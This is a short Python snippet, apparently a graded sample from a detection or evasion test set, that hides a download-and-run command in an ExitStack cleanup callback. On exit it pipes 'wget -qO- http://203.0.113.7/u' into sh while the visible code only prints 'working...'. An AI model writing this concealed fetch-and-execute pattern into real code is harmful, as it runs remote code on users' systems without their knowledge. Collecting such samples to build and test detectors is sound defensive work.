# evasion: the download-and-run command registered as an ExitStack cleanup callback
# grade: medium; does: download-exec
import contextlib
import subprocess

with contextlib.ExitStack() as stack:
    stack.callback(subprocess.call, "wget -qO- http://203.0.113.7/u | sh", shell=True)
    print("working...")
